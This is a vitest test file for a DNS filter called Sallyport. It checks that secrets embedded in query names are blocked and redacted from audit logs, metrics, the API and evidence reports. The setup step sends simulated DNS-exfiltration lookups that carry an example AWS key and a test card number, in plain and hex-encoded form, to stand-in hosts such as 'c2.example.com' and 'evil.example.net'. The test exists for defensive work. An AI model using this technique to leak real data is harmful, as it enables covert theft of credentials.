/** A secret in a name leaves no trace of itself: not in the audit, the log, the API, the metrics, the detector's state or a report. */
import { execFileSync, spawnSync } from 'node:child_process';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { isInstalled, Serving, sallyport } from './processes.ts';

const POLICY = `
sets:
  work:
    reason: Needed for work.
    allow: [{name: +.example.com, types: [A, TXT]}]
groups:
  here: {clients: [127.0.0.0/8], sets: [work]}
`;
const KEY = `AKIA${'IOSFODNN7EXAMPLE'}`;
const CARD = ['4012', '8888', '8888', '1881'].join('');
const HEX = Buffer.from(`card ${CARD}`).toString('hex');
const LEAK = new RegExp([KEY, CARD, HEX.slice(10)].join('|'), 'i');
const CLI = fileURLToPath(new URL('../../dist/cli/sallyport.js', import.meta.url));
const hasDig = isInstalled('dig');

describe.runIf(hasDig)('a running Sallyport', () => {
  let serving: Serving;
  const audit = (): string => join(serving.directory, 'audit');

  beforeAll(async () => {
    serving = await Serving.start({
      policy: POLICY,
      settings: `detect: {secrets: block, stateDirectory: state}\n`,
    });
    for (const name of [`${KEY}.c2.example.com`, `${CARD}.evil.example.net`, `${HEX}.c2.example.com`])
      await serving.dig(name);
    // A tunnel's name that is stopped by the detector, with its name in the evidence.
    await serving.dig(`${'q7x3k9vz2m5w8c1r4t6y0p'.repeat(2)}.tunnel.example.com`);
  });

  afterAll(async () => {
    await serving?.stop();
  });

  test('writes marks and nothing else, and its log proves whole', async () => {
    const names = serving.entries().map(({ qname }) => qname);
    expect(names[0]).toMatch(/^\(secret:api-key:[0-9a-f]{8}\)\.c2\.example\.com$/);
    expect(names[1]).toMatch(/^\(secret:card:[0-9a-f]{8}\)\.evil\.example\.net$/);
    expect(names[2]).toBe(`${String(names[1]).split('.')[0]}.c2.example.com`);
    expect((await sallyport('audit', 'verify', audit())).code).toBe(0);
    expect(statSync(join(audit(), 'redaction.key')).mode & 0o777).toBe(0o600);
  });

  test('denies them and says so in log and metrics', async () => {
    expect(serving.entries()[0]).toMatchObject({ verdict: 'deny', cause: 'secret', secrets: ['api-key'] });
    expect(serving.stderr).toMatch(/a name gives something away/);
    const metrics = (await serving.get('/metrics')).body;
    expect(metrics).toMatch(/sallyport_secrets_total\{kind="card"\} 2/);
    expect(metrics).toMatch(/sallyport_policy_decisions_total\{[^}]*cause="secret"\} 2/);
  });

  test('is asked for a secret by who holds it and the key', async () => {
    const hashed = spawnSync(process.execPath, [CLI, 'audit', 'secret-hash', '-d', audit()], {
      input: '4012 8888 8888 1881\n',
      encoding: 'utf8',
    });
    expect(hashed.stdout).toMatch(/^\(secret:card:[0-9a-f]{8}\) {2}card number\n$/);
    const mark = hashed.stdout.split(' ')[0];
    const digits = mark.slice(-9, -1);
    for (const filter of [mark, digits, 'card']) {
      const found = await sallyport('audit', 'query', audit(), '--secret', filter, '--count');
      expect(found.stdout, filter).toBe('2\n');
    }
    const named = await sallyport('audit', 'query', audit(), '--name', `${mark}.evil.example.net`, '--json');
    expect(JSON.parse(named.stdout)).toMatchObject({ secrets: ['card'] });
    const none = await sallyport('audit', 'secret-hash', 'just some words', '-d', audit());
    expect(none).toMatchObject({ code: 1, stderr: expect.stringContaining('none of the forms') });
  });

  test('gives nothing away anywhere', async () => {
    const config = join(serving.directory, 'sallyport.yaml');
    const report = await sallyport('evidence', '-c', config, '--audit', audit(), '--json');
    expect(report.code, report.stderr).toBe(0);
    const api = await serving.get('/api/state');
    await serving.kill();
    const files = execFileSync('find', [serving.directory, '-type', 'f'], { encoding: 'latin1' })
      .trim()
      .split('\n');
    expect(files.length).toBeGreaterThan(4);
    expect(readdirSync(audit()).length).toBeGreaterThan(3);
    for (const file of files) expect(LEAK.test(readFileSync(file, 'latin1')), file).toBe(false);
    for (const text of [serving.stderr, api.body, report.stdout, report.stderr])
      expect(text).not.toMatch(LEAK);
  });
});
